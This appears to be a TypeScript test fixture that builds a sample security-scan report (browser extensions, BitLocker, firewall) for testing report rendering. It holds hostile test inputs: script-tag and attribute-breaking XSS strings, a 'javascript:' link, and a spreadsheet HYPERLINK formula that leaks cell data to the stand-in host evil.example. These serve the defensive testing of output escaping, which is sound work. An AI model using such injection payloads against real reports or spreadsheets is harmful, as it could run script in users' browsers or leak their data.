import type { CheckDetail, CheckResultDto, HistoryEntryDto, StoredFindingDto } from '../../src/api/contract.js';
import type { ReportData } from '../../src/api/report/report-data.js';
import { localDate } from '../../src/api/report/words.js';

/** Hostile names, as a program or extension could choose them. */
export const SCRIPT_NAME = '<script>alert(1)</script>';
export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
export const ATTRIBUTE_BREAKER = '"><img src=x onerror=alert(2)>';

const DAY = 24 * 60 * 60 * 1000;
export const NOW = new Date(2026, 10, 27, 15, 0).getTime();
const SCANNED = NOW - 60 * 60 * 1000;

type Finding = CheckResultDto['findings'][number];
const finding = (id: string, title: string, extra: Partial<Finding> = {}): Finding => ({
  id,
  key: id,
  title,
  reason: 'can read and change every site, with cookies',
  detail: { name: title, path: `/home/ann/.config/google-chrome/Default/Extensions/${id}` },
  counted: true,
  acknowledged: false,
  ...extra,
});

const run = (status: HistoryEntryDto['status'], summary: string, firstAt: number, lastAt: number, checkId = 'x', findingCount = 0): HistoryEntryDto => ({
  checkId,
  status,
  summary,
  reason: '',
  findingCount,
  firstAt,
  lastAt,
});

function detail(result: CheckResultDto, history: HistoryEntryDto[], extra: Partial<CheckDetail['check']> = {}): CheckDetail {
  const findings: StoredFindingDto[] = result.findings.map((f) => ({
    ...f,
    checkId: result.checkId,
    firstSeen: SCANNED - 3 * DAY,
    lastSeen: SCANNED,
    resolvedAt: null,
    acknowledgedUntil: f.acknowledged ? NOW + 30 * DAY : null,
  }));
  return {
    check: {
      id: result.checkId,
      title: result.title,
      description: `What ${result.title} looks at.`,
      category: result.category,
      severity: result.severity,
      requires: [],
      appliesHere: result.status !== 'not_applicable',
      source: 'builtin',
      sourceName: 'Built-in',
      fleet: null,
      visibility: null,
      selfCheck: null,
      remediation: { summary: `Fix ${result.title}.`, steps: [`Open the settings for ${result.title}.`], links: [] },
      ...extra,
    },
    result,
    findings,
    history: history.map((h) => ({ ...h, checkId: result.checkId })),
  };
}

const base = {
  category: 'system',
  severity: 'high' as const,
  source: { kind: 'builtin' as const, name: 'Built-in' },
  resolution: '',
  reason: '',
  findings: [],
  confirmation: null,
};

/** A Windows laptop's report: hostile extension names, a confirmed check, an error, a check with a history. */
export function sampleReportData(): ReportData {
  const extensions: CheckResultDto = {
    ...base,
    checkId: 'browser-extensions',
    title: 'Browser extensions',
    category: 'browser',
    status: 'fail',
    summary: '2 findings need attention (1 acknowledged, 1 listed for you to see)',
    findings: [
      finding('aaa111', `${SCRIPT_NAME} (chrome)`, { detail: { name: SCRIPT_NAME, sites: 'every site' } }),
      finding('bbb222', `${FORMULA_NAME} (chrome)`, { detail: { name: FORMULA_NAME, permissions: '+cookies, -tabs', note: '@SUM(1+1)' } }),
      finding('ccc333', `${ATTRIBUTE_BREAKER} (edge)`, { acknowledged: true }),
      finding('ddd444', 'uBlock Origin (firefox)', { counted: false, reason: 'uBlock Origin, a well-known extension', detail: { name: 'uBlock Origin', tab: '\tindented', cr: '\rreturn' } }),
    ],
  };
  const disk: CheckResultDto = {
    ...base,
    checkId: 'disk-encryption',
    title: 'Disk encryption',
    category: 'encryption',
    severity: 'critical',
    status: 'unknown',
    summary: 'Confirmed by you on 2026-11-20: BitLocker protects drive C:',
    reason: 'osquery needs administrator rights to read BitLocker',
    confirmation: { statement: 'BitLocker protects drive C:', confirmedAt: NOW - 7 * DAY, expiresAt: NOW + 83 * DAY },
  };
  const firewall: CheckResultDto = { ...base, checkId: 'firewall', title: 'Firewall', category: 'network', status: 'pass', summary: 'The firewall is on' };
  const query: CheckResultDto = {
    ...base,
    checkId: 'custom-check',
    title: 'My "own" check & <friends>',
    category: 'custom',
    severity: 'low',
    status: 'error',
    summary: 'The check could not run',
    reason: 'no such table: <bogus>',
  };
  const screenLock: CheckResultDto = { ...base, checkId: 'screen-lock', title: 'Screen lock', status: 'not_applicable', summary: 'Not checked on Windows' };
  const results = [extensions, disk, firewall, query, screenLock];
  return {
    generatedAt: NOW,
    platform: 'windows',
    demo: false,
    verdict: 'failing',
    report: { scanId: 42, trigger: 'schedule', platform: 'windows', startedAt: SCANNED - 2_000, finishedAt: SCANNED, results, changes: { new: [], resolved: [], failing: [], fixed: [] } },
    checks: [
      detail(extensions, [run('fail', extensions.summary, SCANNED - 3 * DAY, SCANNED, 'x', 2)]),
      detail(disk, [run('unknown', 'Cannot tell: no rights', SCANNED - 10 * DAY, SCANNED - 7 * DAY), run('unknown', disk.summary, SCANNED - 7 * DAY, SCANNED)], {
        selfCheck: { steps: ['Open Settings › Privacy & security › Device encryption.'], confirmation: 'BitLocker protects drive C:' },
      }),
      detail(
        firewall,
        [
          run('pass', 'The firewall is on', SCANNED - 20 * DAY, SCANNED - 12 * DAY),
          run('fail', 'No firewall is on', SCANNED - 11 * DAY, SCANNED - 9 * DAY),
          run('pass', 'The firewall is on', SCANNED - 8 * DAY, SCANNED),
        ],
        {
          remediation: {
            summary: 'Turn the firewall on.',
            steps: ['Open Windows Security › Firewall & network protection.'],
            links: [
              { label: 'Open Windows Security', url: 'windowsdefender://network' },
              { label: 'Firewall settings', url: 'ms-settings:windowsdefender' },
              { label: 'Sneaky', url: 'javascript:alert(3)' },
            ],
          },
        },
      ),
      detail(query, [run('error', 'The check could not run', SCANNED, SCANNED)]),
      detail(screenLock, []),
    ],
    trend: Array.from({ length: 30 }, (_, i) => {
      const start = new Date(2026, 10, 27 - (29 - i)).getTime();
      const scanned = i >= 20 && i !== 25;
      return {
        date: localDate(start),
        start,
        end: start + DAY,
        scans: scanned ? 2 : 0,
        failed: scanned ? (i < 25 ? 2 : 1) : 0,
        unknown: scanned ? 1 : 0,
        passed: scanned ? (i < 25 ? 1 : 2) : 0,
      };
    }),
  };
}
